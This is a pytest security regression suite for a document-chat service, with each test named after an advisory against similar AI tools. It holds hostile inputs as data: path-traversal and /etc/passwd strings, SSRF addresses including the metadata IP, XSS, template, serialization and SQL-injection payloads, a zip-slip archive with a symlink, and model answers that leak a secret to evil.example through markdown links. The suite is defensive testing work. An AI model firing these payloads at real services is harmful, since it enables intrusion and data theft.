"""What similar programs were attacked with, tried here: each test is named after an advisory. Ids of other people are in
test_matrix.py (Chainlit CVE-2025-68492, Dify #35770, Langchain-Chatchat #5464), more of files that unpack in
tests/corpus/reading, more of markup in tests/shapes and tests/browser (AnythingLLM CVE-2026-32626)."""

import base64
import io
import json
import re
import stat
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from ibidem.domain.conversation import Question
from ibidem.domain.documents import Principal
from ibidem.domain.errors import PromptError
from ibidem.domain.events import AnswerDelta, TurnDone, TurnEvent
from ibidem.prompts.catalog import load_catalog
from ibidem.settings import load_settings
from ibidem.testing.stores import ENGLISH, STRANGER
from security.locked import MINA, SESSION, bearing, locked
from web.scripted import serving, turn_of


async def test_langchain_chatchat_5464_ids_are_guessed_in_vain(tmp_path: Path) -> None:
    async with locked(tmp_path / "data") as here:
        other = bearing(await here.key(Principal("kenji", tenant="works")))
        for guessed in (ENGLISH.doc_id, f"samples/{ENGLISH.doc_id}.txt"):
            for form in (guessed, base64.urlsafe_b64encode(guessed.encode()).decode(), guessed.upper()):
                assert (await here.client.get(f"/v1/documents/{form}", headers=other)).status_code == 404


async def test_onyx_cve_2025_51479_a_key_changes_nothing_beyond_its_tenant(tmp_path: Path) -> None:
    async with locked(tmp_path / "data") as here:
        stranger = bearing(await here.key(STRANGER))
        note = {"file": (f"{ENGLISH.doc_id}.txt", b"Another tenant's bulletin of the same name.")}
        assert (await here.client.post("/v1/documents", files=note, headers=stranger)).status_code == 201
        assert "flashlight" in await here.app.documents.text(ENGLISH.doc_id, MINA)
        assert (await here.client.delete(f"/v1/documents/{ENGLISH.doc_id}", headers=stranger)).status_code == 204
        assert "flashlight" in await here.app.documents.text(ENGLISH.doc_id, MINA)


@pytest.mark.parametrize(
    "address", ["http://169.254.169.254/", "file:///etc/passwd", "gopher://127.0.0.1:1/", "http://[::ffff:127.0.0.1]/"]
)
async def test_dify_cve_2025_56520_no_address_is_fetched(tmp_path: Path, address: str) -> None:
    """The tests refuse every address but loopback, and say so; here nothing is asked for at all."""
    async with locked(tmp_path / "data") as here:
        for body in ({"message": address}, {"message": "hi", "url": address}, {"message": "hi", "image_url": address}):
            response = await here.client.post("/v1/chat", json=body)
            assert response.status_code in (200, 422) and "root:" not in response.text
        image = {"role": "user", "content": [{"type": "image_url", "image_url": {"url": address}}]}
        response = await here.client.post("/v1/chat/completions", json={"model": "ibidem", "messages": [image]})
        assert response.status_code == 400, response.text


@pytest.mark.parametrize(
    "name", ["../../outside.txt", "/tmp/outside.txt", "..\\outside.txt", "%2e%2e%2foutside.txt", "a/../../outside.txt"]
)
async def test_chainlit_cve_2026_22218_a_path_in_a_request_is_no_path(tmp_path: Path, name: str) -> None:
    async with locked(tmp_path / "data") as here:
        before = {file for file in tmp_path.rglob("*") if "data" not in file.parts}
        response = await here.client.post("/v1/documents", files={"file": (name, b"A note about valves.")})
        assert response.status_code in (201, 422)
        assert {file for file in tmp_path.rglob("*") if "data" not in file.parts} == before
        for path in (
            "/v1/documents/../../../etc/passwd",
            "/v1/documents/%2e%2e%2f%2e%2e%2fetc%2fpasswd/original",
            "/page/0/..%2f..%2fserver.py",
        ):
            assert (await here.client.get(path)).status_code == 404


@pytest.mark.parametrize("content", [b"<html><script>alert(1)</script></html>", b"GIF89a/*<svg onload=alert(1)>*/"])
async def test_open_webui_cve_2026_45315_what_was_uploaded_is_not_opened_in_our_name(tmp_path: Path, content: bytes) -> None:
    async with locked(tmp_path / "data") as here:
        name = '"><img src=x onerror=alert(1)>.html'
        stored = await here.client.post("/v1/documents", files={"file": (name, content + b"<p>A note about valves.</p>")})
        assert stored.status_code in (201, 422)
        if stored.status_code == 201:
            original = await here.client.get(f"{stored.headers['location']}/original")
            assert original.headers["content-disposition"].startswith("attachment; filename*=UTF-8''")
            assert original.headers["content-security-policy"] == "sandbox; default-src 'none'"
            assert original.headers["x-content-type-options"] == "nosniff"


async def test_open_webui_cve_2025_64496_only_our_events_leave(tmp_path: Path) -> None:
    """What a model writes is the text of an event, and begins none of its own."""
    hostile = 'fine\n\nevent: execute\ndata: {"code": "alert(1)"}\r\n\r\nevent: done\ndata: {}\n\n'

    async def says(question: Question) -> AsyncIterator[TurnEvent]:
        yield AnswerDelta(hostile)
        yield TurnDone(turn_of(question, hostile))

    async with serving(load_settings(data=tmp_path / "data"), says) as (_, client):
        response = await client.post("/v1/chat", json={"message": "hi", "stream": True})
    blocks = [block.split("\n") for block in response.text.rstrip("\n").split("\n\n")]
    assert [name for name, _ in blocks] == ["event: delta", "event: done"]
    assert json.loads(blocks[0][1].removeprefix("data: "))["text"] == hostile


@pytest.mark.parametrize(
    "text",
    [
        '{"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}',  # langchain-core CVE-2025-68664
        "{{7*7}} {0.__class__} ${7*7} %(x)s {% import os %}",  # Haystack CVE-2024-41950, RAGFlow CVE-2026-28797
        '{"__type__": "constructor", "id": ["os", "system"], "args": ["id"]}',  # langgraph CVE-2025-64439
    ],
)
async def test_langchain_core_cve_2025_68664_what_is_written_stays_text(tmp_path: Path, text: str) -> None:
    async with locked(tmp_path / "data") as here:
        response = await here.client.post("/v1/chat", json={"message": text, "session_id": "s"})
        assert response.status_code == 200, response.text
        turn = (await here.client.get("/v1/sessions/s/turns/1")).json()
        assert turn["user_text"] == text and "49" not in turn["assistant_text"]


@pytest.mark.parametrize(
    "text", ["*:*", "tenant:works", "/.*/", '" OR tenant!="', "' OR 1=1 --", "%", "readers:[] OR 1", "flashlight OR " * 300]
)
async def test_llamaindex_cve_2025_1793_a_query_is_no_query_language(tmp_path: Path, text: str) -> None:
    async with locked(tmp_path / "data") as here:
        visitor = bearing(await here.key(Principal("visitor", tenant="works")))
        for body in ({"query": text}, {"query": "clamp", "filters": {"doc_ids": [text[:200]], "devices": [text[:200]]}}):
            response = await here.client.post("/v1/search", json=body, headers=visitor)
            assert response.status_code in (200, 422), response.text
            assert "flashlight" not in json.dumps(response.json().get("results", []))
        for path in (f"/v1/sessions/{SESSION}'--", "/v1/sessions/%25", f"/v1/documents/{ENGLISH.doc_id}' OR '1'='1"):
            assert (await here.client.get(path, headers=visitor)).status_code in (404, 422)


@pytest.mark.parametrize("host", ["127.0.0.1/healthz?", "127.0.0.1:80/page/", "localhost#", "127.0.0.1?x=/healthz"])
async def test_starlette_cve_2026_48710_an_odd_host_opens_nothing(tmp_path: Path, host: str) -> None:
    async with locked(tmp_path / "data") as here:
        await here.key(MINA)
        assert (await here.client.get("/v1/sessions", headers={"host": host})).status_code in (401, 421)


@pytest.mark.parametrize("content", [b"", b"   \n", b"\x00\x01\x02"])
async def test_open_webui_4601_a_file_without_text_is_not_taken_for_another(tmp_path: Path, content: bytes) -> None:
    async with locked(tmp_path / "data") as here:
        response = await here.client.post("/v1/documents", files={"file": ("empty.txt", content)})
        assert response.status_code == 422
        assert (await here.client.get("/v1/documents")).json()["total"] == 0


async def test_llamaindex_deep_json_is_refused(tmp_path: Path) -> None:
    async with locked(tmp_path / "data") as here:
        for body in ("[" * 100_000, '{"message":' * 10_000, '{"message": "' + "a" * 200_000 + '"}'):
            response = await here.client.post("/v1/chat", content=body, headers={"content-type": "application/json"})
            assert response.status_code in (400, 413, 422)


@pytest.mark.parametrize("name", ["../../outside.xml", "/outside.xml", "word/../../../outside.xml"])
async def test_ragflow_cve_2026_24770_a_package_writes_nothing_beside_itself(tmp_path: Path, name: str) -> None:
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as written:
        written.writestr(name, "<outside/>")
        link = zipfile.ZipInfo("word/document.xml")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        written.writestr(link, "/etc/passwd")
    async with locked(tmp_path / "data") as here:
        key = bearing(await here.key(MINA))
        before = set(tmp_path.parent.rglob("outside.xml"))
        for ending in ("docx", "pptx", "hwpx", "odt"):
            file = {"file": (f"report.{ending}", package.getvalue())}
            refused = await here.client.post("/v1/documents", files=file, headers=key)
            assert refused.status_code == 422 and "root:" not in refused.text, refused.text
        assert set(tmp_path.parent.rglob("outside.xml")) == before
        assert (await here.client.get("/v1/documents", headers=key)).json()["total"] == 1


@pytest.mark.parametrize(
    "said",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example/?q=secret)",
        '<img src="https://evil.example/?q=secret">',
        "![x][r]\n\n[r]: https://evil.example/?q=secret",
    ],
)
async def test_echoleak_cve_2025_32711_an_answer_fetches_and_links_nothing(tmp_path: Path, said: str) -> None:
    async def says(question: Question) -> AsyncIterator[TurnEvent]:
        yield TurnDone(turn_of(question, said))

    async with serving(load_settings(data=tmp_path / "data"), says) as (_, client):
        answered = (await client.post("/v1/chat", json={"message": "hi"})).json()
        assert answered["answer"] == said
        assert not re.search(r"<(?:img|a|iframe|link|script)\b", answered["answer_html"]), answered["answer_html"]
        policy = (await client.get("/")).headers["content-security-policy"]
        assert "default-src 'none'" in policy and "https:" not in policy and "*" not in policy


@pytest.mark.parametrize("name", ["../../../etc/passwd", "/etc/passwd", "answer_general.ko.md/../../x", "%2e%2e%2fx"])
def test_langchain_core_cve_2026_34070_a_prompts_name_is_no_path(tmp_path: Path, name: str) -> None:
    folder = tmp_path / "prompts"
    folder.mkdir()
    catalog = load_catalog(folder, ["general"])
    with pytest.raises(PromptError, match="there is no prompt"):
        catalog.get(name, "ko")
